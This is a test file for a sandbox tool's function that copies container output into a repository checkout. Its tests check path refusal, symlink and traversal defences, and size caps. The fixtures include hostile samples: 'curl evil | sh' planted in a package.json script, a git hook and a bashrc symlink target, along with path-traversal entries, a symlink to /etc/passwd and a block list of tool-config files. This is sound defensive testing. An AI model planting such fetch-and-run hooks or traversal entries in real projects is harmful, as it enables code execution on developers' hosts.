import {lstat, mkdir, readFile, readdir, stat, symlink, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {Readable} from 'node:stream'
import {type Header, pack} from 'tar-stream'
import {describe, expect, it} from 'vitest'

import {PolicyError, UsageError} from '../../src/errors.js'
import {copyOutOfArchive, verifyOutPath} from '../../src/sandbox/copy-out.js'
import {makeTempDir} from '../helpers/temp-dir.js'

type ArchiveEntry = Partial<Header> & {name: string; content?: string}

/** A tar archive as the engine's getArchive returns it: a Node stream (dockerode's HTTP response). */
function archiveOf(entries: readonly ArchiveEntry[]): Readable {
  const packer = pack()
  for (const {content = '', ...header} of entries) packer.entry(header, content)
  packer.finalize()
  return Readable.from(packer, {objectMode: false})
}

async function modeOf(path: string): Promise<number> {
  return (await stat(path)).mode & 0o7777
}

async function exists(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  )
}

describe('verifyOutPath', () => {
  it.each([
    ['coverage', 'coverage'],
    ['./coverage/', 'coverage'],
    ['build//reports/./junit.xml', 'build/reports/junit.xml'],
    // A dot-file as the last component is fine unless it configures a host tool.
    ['.editorconfig', '.editorconfig'],
    ['out/.coverage', 'out/.coverage'],
  ])('accepts %j as %j', (requested, normalised) => {
    expect(verifyOutPath(requested)).toBe(normalised)
  })

  it.each([
    // Not inside the repository.
    '',
    '.',
    './',
    '/etc/cron.d',
    '../sibling',
    'coverage/../../sibling',
    // Version control, installed packages, virtual environments: anywhere in the path.
    '.git',
    '.git/hooks/pre-commit',
    'vendor/.hg',
    '.svn',
    'node_modules',
    'packages/app/node_modules/.bin',
    '.venv',
    // Dot-directories configure tools the host runs.
    '.github/workflows/ci.yml',
    '.vscode/tasks.json',
    '.husky/pre-commit',
    'packages/app/.cargo/config.toml',
    // Dot-files that configure host tools, as the last component.
    '.npmrc',
    '.envrc',
    '.env',
    '.secure.toml',
    '.gitmodules',
    '.gitattributes',
    '.gitignore',
    '.lfsconfig',
    '.pre-commit-config.yaml',
    '.yarnrc',
    '.yarnrc.yml',
    '.pnpmfile.cjs',
    '.tool-versions',
    '.mise.toml',
    '.nvmrc',
    '.python-version',
    'packages/app/.npmrc',
    // A case-insensitive checkout (macOS) takes these for .git and .npmrc, and HFS+ ignores U+200C.
    '.GIT',
    'packages/app/.NpmRc',
    'packages/app/.g\u200Cit',
  ])('refuses %j with a one-line usage error and a hint', (requested) => {
    let thrown: unknown
    try {
      verifyOutPath(requested)
    } catch (error) {
      thrown = error
    }

    expect(thrown).toBeInstanceOf(UsageError)
    expect(thrown).toMatchObject({code: 'OUT_PATH_REFUSED', hint: expect.stringContaining('--out') as unknown})
    const {message} = thrown as UsageError
    expect(message).toContain(JSON.stringify(requested))
    expect(message).not.toContain('\n')
  })
})

describe('copyOutOfArchive', () => {
  it('writes the regular files at the same place in the checkout, mode 0644 whatever the archive says', async () => {
    // Given a checkout with an executable file the archive overwrites
    const repository = await makeTempDir()
    await mkdir(join(repository, 'coverage'))
    await writeFile(join(repository, 'coverage', 'run.sh'), 'old', {mode: 0o755})
    const archive = archiveOf([
      {name: 'coverage', type: 'directory', mode: 0o777},
      {name: 'coverage/index.html', mode: 0o4755, content: '<html>'},
      {name: 'coverage/lcov-report', type: 'directory', mode: 0o777},
      {name: 'coverage/lcov-report/app.js.html', mode: 0o6777, content: 'app'},
      {name: 'coverage/run.sh', mode: 0o1755, content: 'echo new'},
    ])

    // When
    const result = await copyOutOfArchive(archive, repository, 'coverage')

    // Then
    expect(result).toEqual({written: ['coverage/index.html', 'coverage/lcov-report/app.js.html', 'coverage/run.sh'], skipped: []})
    expect(await readFile(join(repository, 'coverage/index.html'), 'utf8')).toBe('<html>')
    expect(await readFile(join(repository, 'coverage/lcov-report/app.js.html'), 'utf8')).toBe('app')
    expect(await readFile(join(repository, 'coverage/run.sh'), 'utf8')).toBe('echo new')
    for (const file of result.written) expect(await modeOf(join(repository, file))).toBe(0o644)
  })

  it('maps the archive under a nested --out path', async () => {
    const repository = await makeTempDir()
    // The engine names the archive's top entry after the path's last component.
    const archive = archiveOf([{name: 'coverage/lcov.info', content: 'TN:'}])

    const result = await copyOutOfArchive(archive, repository, './build/coverage/')

    expect(result.written).toEqual(['build/coverage/lcov.info'])
    expect(await readFile(join(repository, 'build/coverage/lcov.info'), 'utf8')).toBe('TN:')
  })

  it('writes a single-file archive at the --out path itself', async () => {
    const repository = await makeTempDir()
    const archive = archiveOf([{name: 'junit.xml', mode: 0o755, content: '<testsuites/>'}])

    const result = await copyOutOfArchive(archive, repository, 'reports/junit.xml')

    expect(result).toEqual({written: ['reports/junit.xml'], skipped: []})
    expect(await readFile(join(repository, 'reports/junit.xml'), 'utf8')).toBe('<testsuites/>')
    expect(await modeOf(join(repository, 'reports/junit.xml'))).toBe(0o644)
  })

  it('creates no link, device or FIFO, and reports each', async () => {
    const repository = await makeTempDir()
    const archive = archiveOf([
      {name: 'coverage/index.html', content: 'kept'},
      {name: 'coverage/passwd', type: 'symlink', linkname: '/etc/passwd'},
      {name: 'coverage/hard', type: 'link', linkname: 'coverage/index.html'},
      {name: 'coverage/null', type: 'character-device', devmajor: 1, devminor: 3},
      {name: 'coverage/disk', type: 'block-device', devmajor: 8, devminor: 0},
      {name: 'coverage/pipe', type: 'fifo'},
    ])

    const result = await copyOutOfArchive(archive, repository, 'coverage')

    expect(result.written).toEqual(['coverage/index.html'])
    expect(result.skipped).toEqual([
      {path: 'coverage/passwd', reason: 'a symbolic link'},
      {path: 'coverage/hard', reason: 'a hard link'},
      {path: 'coverage/null', reason: 'a device'},
      {path: 'coverage/disk', reason: 'a device'},
      {path: 'coverage/pipe', reason: 'a FIFO'},
    ])
    expect((await readdir(join(repository, 'coverage'))).sort()).toEqual(['index.html'])
  })

  it('writes nothing outside the --out path, whatever the entry names', async () => {
    // Given a checkout inside a directory the archive aims at
    const root = await makeTempDir()
    const repository = join(root, 'repo')
    await mkdir(repository)
    const archive = archiveOf([
      {name: 'coverage/../../escaped.txt', content: 'x'},
      {name: '../escaped.txt', content: 'x'},
      {name: join(root, 'absolute.txt'), content: 'x'},
      {name: 'package.json', content: '{"scripts": {"test": "curl evil | sh"}}'},
    ])

    // When
    const result = await copyOutOfArchive(archive, repository, 'coverage')

    // Then nothing was written, not even in the checkout
    expect(await readdir(root)).toEqual(['repo'])
    expect(await readdir(repository)).toEqual([])
    expect(result.written).toEqual([])
    expect(result.skipped).toEqual([
      {path: 'coverage/../../escaped.txt', reason: 'a path with ..'},
      {path: '../escaped.txt', reason: 'a path with ..'},
      {path: join(root, 'absolute.txt'), reason: 'an absolute path'},
      {path: 'package.json', reason: 'outside coverage'},
    ])
  })

  it('writes nothing a host tool reads or runs, and drains what it skips', async () => {
    const repository = await makeTempDir()
    const refused = [
      'coverage/.git/hooks/pre-commit',
      'coverage/node_modules/.bin/jest',
      'coverage/.github/workflows/ci.yml',
      'coverage/.envrc',
      'coverage/.NPMRC',
    ]
    const archive = archiveOf([
      ...refused.map((name) => ({name, content: 'curl evil | sh'})),
      // Bigger than the parser's buffers: left unread it would stall the copy.
      {name: 'coverage/.git/objects/pack/big.pack', content: 'x'.repeat(1024 * 1024)},
      {name: 'coverage/evil\u001B[2Jname', content: 'x'},
      {name: 'coverage/index.html', content: 'kept'},
    ])

    const result = await copyOutOfArchive(archive, repository, 'coverage')

    expect(result.written).toEqual(['coverage/index.html'])
    expect(result.skipped.map(({path}) => path)).toEqual([...refused, 'coverage/.git/objects/pack/big.pack', 'coverage/evil\\u001b[2Jname'])
    for (const {reason} of result.skipped) expect(reason).toMatch(/tools on the host|control characters/)
    expect(await readdir(join(repository, 'coverage'))).toEqual(['index.html'])
  })

  it.each(['coverage', 'coverage/lcov-report'])('does not follow a symbolic link planted in the checkout at %s', async (planted) => {
    // Given the untrusted repository committed a symbolic link where the output goes
    const repository = await makeTempDir()
    const elsewhere = await makeTempDir('secure-elsewhere-')
    await mkdir(join(repository, planted, '..'), {recursive: true})
    await symlink(elsewhere, join(repository, planted))
    const archive = archiveOf([
      {name: 'coverage/lcov-report/index.html', content: 'x'},
      {name: 'coverage/lcov-report/deeper/app.html', content: 'x'},
    ])

    // When
    const result = await copyOutOfArchive(archive, repository, 'coverage')

    // Then the directory it points to stays empty, and the link stays a link
    expect(await readdir(elsewhere)).toEqual([])
    expect((await lstat(join(repository, planted))).isSymbolicLink()).toBe(true)
    expect(result.written).toEqual([])
    expect(result.skipped).toEqual([
      {path: 'coverage/lcov-report/index.html', reason: `a symbolic link on the host at ${planted}`},
      {path: 'coverage/lcov-report/deeper/app.html', reason: `a symbolic link on the host at ${planted}`},
    ])
  })

  it('does not write through a symbolic link at the destination file', async () => {
    // Given links in the checkout where the files go: one to a file, one dangling
    const repository = await makeTempDir()
    const elsewhere = await makeTempDir('secure-elsewhere-')
    await writeFile(join(elsewhere, 'bashrc'), 'original')
    await mkdir(join(repository, 'coverage'))
    await symlink(join(elsewhere, 'bashrc'), join(repository, 'coverage/index.html'))
    await symlink(join(elsewhere, 'created'), join(repository, 'coverage/app.html'))
    const archive = archiveOf([
      {name: 'coverage/index.html', content: 'curl evil | sh'},
      {name: 'coverage/app.html', content: 'curl evil | sh'},
    ])

    // When
    const result = await copyOutOfArchive(archive, repository, 'coverage')

    // Then
    expect(await readFile(join(elsewhere, 'bashrc'), 'utf8')).toBe('original')
    expect(await readdir(elsewhere)).toEqual(['bashrc'])
    expect(result.skipped).toEqual([
      {path: 'coverage/index.html', reason: 'a symbolic link on the host at coverage/index.html'},
      {path: 'coverage/app.html', reason: 'a symbolic link on the host at coverage/app.html'},
    ])
  })

  it('skips an entry whose place in the checkout is not a regular file, or whose parent is not a directory', async () => {
    const repository = await makeTempDir()
    await mkdir(join(repository, 'coverage/index.html'), {recursive: true})
    await writeFile(join(repository, 'coverage/lcov-report'), 'a file')
    const archive = archiveOf([
      {name: 'coverage/index.html', content: 'x'},
      {name: 'coverage/lcov-report/app.html', content: 'x'},
    ])

    const result = await copyOutOfArchive(archive, repository, 'coverage')

    expect(result.skipped).toEqual([
      {path: 'coverage/index.html', reason: 'not a regular file on the host at coverage/index.html'},
      {path: 'coverage/lcov-report/app.html', reason: 'not a directory on the host at coverage/lcov-report'},
    ])
    expect(await readdir(join(repository, 'coverage/index.html'))).toEqual([])
    expect(await readFile(join(repository, 'coverage/lcov-report'), 'utf8')).toBe('a file')
  })

  it('writes up to the size cap', async () => {
    const repository = await makeTempDir()
    const archive = archiveOf([
      {name: 'coverage/a.txt', content: '12345'},
      {name: 'coverage/b.txt', content: '12345'},
    ])

    const result = await copyOutOfArchive(archive, repository, 'coverage', {maxBytes: 10})

    expect(result.written).toEqual(['coverage/a.txt', 'coverage/b.txt'])
  })

  it('stops with a policy error past the size cap, and stops reading the archive', async () => {
    // Given an archive whose second file takes the total past the cap, with more after it
    const repository = await makeTempDir()
    const archive = archiveOf([
      {name: 'coverage/a.txt', content: '12345'},
      {name: 'coverage/b.txt', content: '123456'},
      {name: 'coverage/c.txt', content: 'x'.repeat(1024 * 1024)},
    ])

    // When
    const copying = copyOutOfArchive(archive, repository, 'coverage', {maxBytes: 10})

    // Then
    await expect(copying).rejects.toBeInstanceOf(PolicyError)
    await expect(copying).rejects.toMatchObject({code: 'OUT_TOO_LARGE', message: '--out coverage: more than 10 bytes to copy out', hint: 'name a smaller path with --out'})
    expect(await readdir(join(repository, 'coverage'))).toEqual(['a.txt'])
    // Left paused part-way, the engine's HTTP response would hold its connection.
    expect(archive.destroyed).toBe(true)
  })

  it('refuses a bad --out path before reading the archive, and releases it', async () => {
    const repository = await makeTempDir()
    const archive = archiveOf([{name: '.git/hooks/pre-commit', content: 'curl evil | sh'}])

    await expect(copyOutOfArchive(archive, repository, '.git')).rejects.toMatchObject({code: 'OUT_PATH_REFUSED'})

    expect(await exists(join(repository, '.git'))).toBe(false)
    expect(archive.destroyed).toBe(true)
  })
})
